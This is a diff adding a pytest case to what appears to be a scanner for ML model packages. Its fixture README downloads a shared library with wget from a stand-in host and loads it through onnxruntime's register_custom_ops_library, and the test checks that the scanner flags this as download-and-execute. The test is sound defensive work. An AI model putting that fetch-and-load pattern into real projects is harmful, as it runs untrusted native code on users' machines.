@@ -166,3 +166,12 @@ def test_what_protobuf_accepts_does_not_stop_the_walk(tmp_path: Path) -> None:
 def test_a_group_without_its_end_is_malformed() -> None:
     with pytest.raises(WireError):
         _walk(w.field_varint(1, 8) + w.varint(99 << 3 | 3) + w.field_varint(1, 5))
+
+
+# onnxruntime's SessionOptions.register_custom_ops_library maps the library into the process
+# (C API RegisterCustomOpsLibrary -> dlopen): a fetched library registered so is run.
+def test_a_fetched_library_registered_as_custom_ops_is_run(tmp_path: Path) -> None:
+    card = ("```bash\nwget https://example.invalid/libdecode.so\n```\n"
+            "```python\nso.register_custom_ops_library('./libdecode.so')\n```\n")
+    report = _vet(tmp_path, {"README.md": card, "model.onnx": w.conv_net()})
+    assert "download-and-execute" in {f.rule for f in report.findings}
